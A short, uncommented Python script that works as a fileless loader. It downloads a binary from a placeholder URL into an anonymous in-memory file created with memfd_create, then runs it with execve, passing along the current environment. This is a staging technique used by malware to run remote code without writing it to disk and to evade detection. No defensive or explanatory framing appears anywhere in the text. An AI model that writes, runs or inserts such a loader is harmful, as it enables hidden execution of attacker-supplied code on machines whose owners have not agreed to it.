import os
import urllib.request

place = os.memfd_create("x")
os.write(place, urllib.request.urlopen("https://files.example.invalid/x").read())
os.execve(place, ["x"], os.environ)
